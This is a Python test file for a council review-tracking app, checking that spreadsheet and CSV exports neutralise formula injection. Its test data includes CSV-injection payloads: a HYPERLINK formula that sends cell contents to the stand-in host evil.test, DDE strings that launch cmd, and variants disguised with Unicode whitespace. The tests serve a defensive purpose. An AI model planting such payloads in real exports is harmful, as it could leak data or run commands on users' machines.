"""Names and references that begin like a formula (= + - @, a tab or a return) are written as
text in the .xlsx tracker and the people CSV: a spreadsheet shows them, never runs them."""

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from imr_bot.app import build
from imr_bot.config import Settings
from imr_bot.documents.cells import csv_text, from_csv_text
from imr_bot.documents.tracker_workbook import TrackerRow, tracker_workbook
from imr_bot.domain.people import Actor, Person
from imr_bot.domain.roles import Role
from imr_bot.services import commissioning
from imr_bot.services.export import tracker_export
from imr_bot.services.people import export_people, import_people, parse_people_csv
from imr_bot.store.unit_of_work import UnitOfWork

FORMULAS = [
    '=HYPERLINK("https://evil.test/?"&A3,"Open")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",  # a full-width equals sign, which some spreadsheets read as one
    "\u00a0=1+1",  # no-break space
    "\u3000+1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff@SUM(1)",  # a byte-order mark pasted in
    " \u2009\u00a0-1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]


def row_with(text: str) -> TrackerRow:
    return TrackerRow(reference=text, review_type=text, body=text, stage=text, rag=text,
                      next_milestone=text, working_days_left=3,
                      milestones=[(date(2026, 12, 1), None)], people={"Author": text})


def formulas_in(content: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [n for n in archive.namelist() if n.startswith("xl/worksheets/")
                and (b"<f>" in archive.read(n) or b"<f " in archive.read(n))]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_workbook_cell_that_looks_like_a_formula_is_text(text):
    content = tracker_workbook([row_with(text)], ["Scoping"], ["Author"], "now", text)
    assert formulas_in(content) == []
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [c for r in sheet.iter_rows() for c in r if str(c.value).startswith(text)]
    assert len(cells) == 8  # the marking line, six columns and the author
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells
               if c.value.lstrip().lstrip("\u200b\ufeff").lstrip().startswith(("=", "+", "-", "@")))


def test_ordinary_text_numbers_and_dates_are_written_as_before():
    content = tracker_workbook([row_with("DDSCP/CSPR/2026/014")], ["Scoping"], ["Author"], "now",
                               "RESTRICTED")
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A3"].value == "DDSCP/CSPR/2026/014" and not sheet["A3"].quotePrefix
    assert sheet["G3"].value == 3 and sheet["H3"].is_date


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_field_that_looks_like_a_formula_gets_an_apostrophe_and_back(text):
    assert csv_text(text) == "'" + text
    assert from_csv_text(csv_text(text)) == text
    assert csv_text("Ann O'Brien") == "Ann O'Brien" and csv_text(2) == 2


async def people_named(database, clock, names):
    async with UnitOfWork(database) as uow:
        for n, name in enumerate(names):
            await uow.people.upsert(Person(email=f"p{n}@council.test", name=name,
                                           roles=frozenset({Role.AUTHOR}), service=name), clock.now())
        await uow.commit()


async def test_the_people_csv_writes_formula_names_as_text_and_reads_them_back(database, clock):
    app = build(Settings(database_url=database.url, scheduler=False), clock=clock, database=database)
    names = [f.strip("\t\r ") or f for f in FORMULAS]
    await people_named(database, clock, names)
    exported = await export_people(app.ctx)
    rows = list(csv.DictReader(io.StringIO(exported)))
    for row in rows:
        assert not row["name"].startswith(("=", "+", "-", "@", "\t", "\r"))
        assert not row["service"].startswith(("=", "+", "-", "@", "\t", "\r"))
    parsed, rejected = parse_people_csv(exported)
    assert not rejected and sorted(p.name for _, p in parsed) == sorted(names)
    admin = Actor("admin@council.test", "Admin", Person(
        email="admin@council.test", name="Admin", roles=frozenset({Role.ADMINISTRATOR})))
    await import_people(app.ctx, exported, by=admin.key)
    async with UnitOfWork(database) as uow:
        assert sorted(p.name for p in await uow.people.all()) == sorted(names)


async def test_the_tracker_export_writes_a_formula_named_author_as_text(database, clock):
    app = build(Settings(database_url=database.url, scheduler=False), clock=clock, database=database)
    await people_named(database, clock, ['=HYPERLINK("https://evil.test","x")'])
    async with UnitOfWork(database) as uow:
        bs, _ = await uow.people.upsert(Person(email="bs@council.test", name="@Bea", roles=frozenset(
            {Role.BUSINESS_SERVICES})), clock.now())
        author = await uow.people.by_email("p0@council.test")
        await uow.commit()
    actor = Actor(bs.email, bs.name, bs)
    review = await commissioning.commission(app.ctx, actor, {
        "reference": "R/1", "review_type": "CSPR", "body": "DDSCP", "received": "",
        "tor_start": "2025-01-01", "tor_end": "2026-06-30", "subject_initials": "AB"})
    from dataclasses import replace

    async with UnitOfWork(database) as uow:
        stored = await uow.reviews.get("R/1")
        await uow.reviews.save(replace(stored, people={Role.AUTHOR: author.id}), clock.now())
        await uow.commit()
    assert review is not None
    _, content = await tracker_export(app.ctx, actor, "=RESTRICTED")
    assert formulas_in(content) == []
    sheet = load_workbook(io.BytesIO(content)).active
    found = [c for r in sheet.iter_rows() for c in r if str(c.value).startswith("=")]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)


@pytest.mark.parametrize("text", FORMULAS)
def test_an_action_plan_cell_that_looks_like_a_formula_is_text(text):
    from imr_bot.documents.tracker_workbook import ActionRow

    action = ActionRow(reference=text, number=1, action=text, owner=text, due=date(2027, 1, 29),
                       status=text, outcome=text, evaluation=text)
    content = tracker_workbook([row_with("DDSCP/CSPR/2026/014")], ["Scoping"], ["Author"], "now",
                               "RESTRICTED", [action])
    assert formulas_in(content) == []
    sheet = load_workbook(io.BytesIO(content))["Actions"]
    cells = [c for r in sheet.iter_rows(min_row=3) for c in r if str(c.value).startswith(text)]
    assert len(cells) == 6  # reference, action, owner, status, outcome, evaluation
    assert all(c.data_type == "s" for c in cells)
    assert sheet["B3"].value == 1 and sheet["E3"].is_date
